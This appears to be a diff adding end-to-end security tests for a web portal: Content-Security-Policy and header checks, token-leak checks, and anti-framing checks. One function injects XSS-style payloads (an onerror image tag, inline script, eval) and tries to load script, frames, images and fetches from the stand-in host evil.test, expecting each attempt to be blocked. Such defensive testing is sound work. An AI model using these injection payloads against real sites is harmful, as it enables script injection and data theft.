@@ -1,0 +1,190 @@
+import { createHash } from 'node:crypto';
+import { createServer } from 'node:http';
+import type { Page } from 'playwright-core';
+import { expect } from 'vitest';
+import { ADMIN_ROUTES, COMMON_ROUTES } from './routes-table.ts';
+import { shellOf } from './shell-page.ts';
+import { it } from './support/journey.ts';
+import { freePort } from './support/portal.ts';
+import { SAMPLE_PASSWORD, signIn } from './support/sign-in.ts';
+
+const ADMIN = 'admin@bridgework.test';
+
+/** The only text in a page that may tell the browser something: to fetch the dashboard while somebody signs in. */
+const THE_ONE_RULE = `sha256-${createHash('sha256')
+  .update('{"prefetch":[{"source":"list","urls":["/"],"eagerness":"immediate"}]}')
+  .digest('base64')}`;
+
+it('every document comes with its own policy and headers, and runs no script but the built ones', async ({
+  page,
+  address,
+}) => {
+  const nonces: string[] = [];
+  await signIn(page, ADMIN);
+  for (const path of ['/', '/reports', '/no-such-page', '/view-patient/overview', '/widget/compare']) {
+    const reply = await page.goto(path);
+    await shellOf(page).account.waitFor();
+    const headers = reply?.headers() ?? {};
+    const policy = headers['content-security-policy'] ?? '';
+    expect(policy).toContain(
+      `default-src 'none'; script-src 'self' '${THE_ONE_RULE}'; style-src 'self' 'nonce-`,
+    );
+    expect(policy).not.toMatch(/unsafe-|\*|https?:/);
+    expect(policy).toContain("frame-ancestors 'none'; base-uri 'none'; form-action 'none'");
+    expect(policy).toContain("require-trusted-types-for 'script'");
+    expect(headers).toMatchObject({
+      'cache-control': 'no-store',
+      'cross-origin-opener-policy': 'same-origin',
+      'referrer-policy': 'same-origin',
+      'x-content-type-options': 'nosniff',
+      'x-frame-options': 'DENY',
+    });
+    nonces.push(/nonce-([\w+/]{24,})'/.exec(policy)?.[1] ?? '');
+    const code = await page.evaluate(() => ({
+      scripts: [...document.scripts].map(({ type, src }) => (src === '' ? type : new URL(src).origin)),
+      handlers: [...document.querySelectorAll('*')].filter((element) =>
+        element.getAttributeNames().some((name) => name.startsWith('on')),
+      ).length,
+      styles: [...document.querySelectorAll('style')].filter(({ nonce }) => nonce === '').length,
+    }));
+    expect([...new Set(code.scripts)].sort()).toEqual(['application/json', address]);
+    expect(code).toMatchObject({ handlers: 0, styles: 0 });
+  }
+  expect(nonces).not.toContain('');
+  expect(new Set(nonces).size).toBe(nonces.length);
+});
+
+/** Signs in as signIn does, and answers what the server answered. */
+async function tokensOfSignIn(page: Page): Promise<string[]> {
+  let answered = '{}';
+  await page.route('**/api/authenticate', async (route) => {
+    const response = await route.fetch();
+    answered = await response.text();
+    await route.fulfill({ response, body: answered });
+  });
+  await signIn(page, ADMIN);
+  const { accessToken = '', refreshToken = '' }: Record<string, string> = JSON.parse(answered);
+  return [accessToken, refreshToken];
+}
+
+/** Everything that can be read of the page without running its code, in one text. */
+const readable = (page: Page) =>
+  page.evaluate(() =>
+    [
+      document.documentElement.outerHTML,
+      location.href,
+      document.cookie,
+      window.name,
+      JSON.stringify(history.state),
+      JSON.stringify({ ...localStorage }),
+      JSON.stringify({ ...sessionStorage }),
+    ].join('\n'),
+  );
+
+it('SESSION-3: neither token nor password can be read in the page, its address or its storage, and both go to the portal alone', async ({
+  page,
+  address,
+}) => {
+  const addresses: string[] = [];
+  const said: string[] = [];
+  page.on('request', (request) => void addresses.push(request.url()));
+  page.on('console', (message) => void said.push(message.text()));
+  const [accessToken = '', refreshToken = ''] = await tokensOfSignIn(page);
+  expect(accessToken.length).toBeGreaterThan(100);
+  expect(refreshToken.length).toBeGreaterThan(40);
+  const secrets = [accessToken, refreshToken, SAMPLE_PASSWORD];
+
+  await shellOf(page).account.waitFor();
+  const seen = [await readable(page)];
+  for (const [path] of [...COMMON_ROUTES.slice(0, 4), ...ADMIN_ROUTES.slice(0, 2)]) {
+    await page.goto(path);
+    await shellOf(page).account.waitFor();
+    seen.push(await readable(page));
+  }
+  await shellOf(page).account.click();
+  seen.push(await readable(page));
+  for (const secret of secrets) {
+    expect(seen.filter((text) => text.includes(secret))).toEqual([]);
+    expect([...addresses, ...said].filter((text) => text.includes(secret))).toEqual([]);
+  }
+  expect(seen.filter((text) => text.includes('"Token"'))).toHaveLength(seen.length);
+  const origins = addresses.filter((each) => !each.startsWith('data:')).map((each) => new URL(each).origin);
+  expect(new Set(origins)).toEqual(new Set([address]));
+});
+
+/** What is tried in an open page, as if somebody had got it in there. */
+function smuggle(): Promise<{ ran: unknown; refused: string[] }> {
+  const refused: string[] = [];
+  document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
+    refused.push(effectiveDirective);
+  });
+  const addScript = (fill: (script: HTMLScriptElement) => void) => {
+    const script = document.createElement('script');
+    fill(script);
+    document.body.append(script);
+  };
+  const trusted = (address: string) =>
+    Reflect.get(globalThis, 'trustedTypes')
+      .createPolicy('evil', { createScriptURL: String })
+      .createScriptURL(address);
+  const attempts = [
+    () => document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="window.ran = 1">'),
+    () => addScript((script) => script.append('window.ran = 2')),
+    () => {
+      const button = document.createElement('button');
+      button.setAttribute('onclick', 'window.ran = 3');
+      button.click();
+    },
+    () => Reflect.get(globalThis, 'eval')('window.ran = 4'),
+    () => addScript((script) => script.setAttribute('src', 'https://evil.test/x.js')),
+    () => addScript((script) => script.setAttribute('src', trusted('https://evil.test/x.js'))),
+    () => {
+      const frame = document.createElement('iframe');
+      frame.src = 'https://evil.test/';
+      document.body.append(frame);
+    },
+    () => {
+      new Image().src = 'https://evil.test/pixel.png';
+    },
+    () => fetch('https://evil.test/'),
+  ];
+  // What a debugger evaluates is let through; a task of the page's own is not.
+  const inTheirOwnTasks = attempts.map(
+    (attempt) =>
+      new Promise<void>((resolve) => {
+        setTimeout(resolve);
+        setTimeout(attempt);
+      }),
+  );
+  return Promise.all(inTheirOwnTasks)
+    .then(() => new Promise((resolve) => setTimeout(resolve, 100)))
+    .then(() => ({ ran: Reflect.get(globalThis, 'ran'), refused: [...new Set(refused)].sort() }));
+}
+
+it('what somebody could smuggle into a page does not run, leave, or frame it', async ({ context }) => {
+  const page = await context.newPage();
+  await signIn(page, ADMIN);
+  const { ran, refused } = await page.evaluate(smuggle);
+  expect(ran).toBeUndefined();
+  expect(refused).toEqual([
+    'connect-src',
+    'frame-src',
+    'img-src',
+    'require-trusted-types-for',
+    'script-src-elem',
+  ]);
+});
+
+it('no other page can show the portal inside it', async ({ context, address }) => {
+  const foreign = createServer((_, reply) => {
+    reply.setHeader('content-type', 'text/html').end(`<iframe src="${address}/login"></iframe>`);
+  });
+  const port = await freePort();
+  await new Promise<void>((resolve) => foreign.listen(port, '127.0.0.1', resolve));
+  const page = await context.newPage();
+  const failed = page.waitForEvent('requestfailed');
+  await page.goto(`http://127.0.0.1:${port}/`);
+  expect((await failed).failure()?.errorText).toBe('net::ERR_BLOCKED_BY_RESPONSE');
+  await page.close();
+  foreign.close();
+});
